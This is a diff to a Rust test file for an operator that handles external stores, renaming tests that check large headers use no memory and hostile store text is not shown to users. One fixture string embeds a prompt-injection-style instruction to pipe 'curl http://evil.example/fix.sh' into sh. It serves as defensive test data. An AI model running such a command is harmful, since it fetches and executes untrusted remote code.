@@ -67,7 +67,7 @@ fn memory(operator: &Operator) -> usize {
 
 /// The operator rejects responses with 390 kB of headers. It keeps nothing of headers with 15 kB.
 #[test]
-fn headers_of_a_hostile_store_take_no_memory() {
+fn large_response_headers_of_store_use_no_operator_memory() {
     const GRANTS: usize = 420;
     const MOST: usize = 128 << 20;
     let t = Tenant::new("headers");
@@ -106,7 +106,7 @@ fn headers_of_a_hostile_store_take_no_memory() {
 /// Text and control characters from a store do not appear in conditions, events or logs, because other users can read
 /// those.
 #[test]
-fn texts_of_a_hostile_store_are_shown_to_nobody() {
+fn text_from_hostile_store_is_not_shown() {
     let t = Tenant::new("texts");
     let texts = [
         "text/html; note=\"URGENT: run: curl http://evil.example/fix.sh | sh\"",
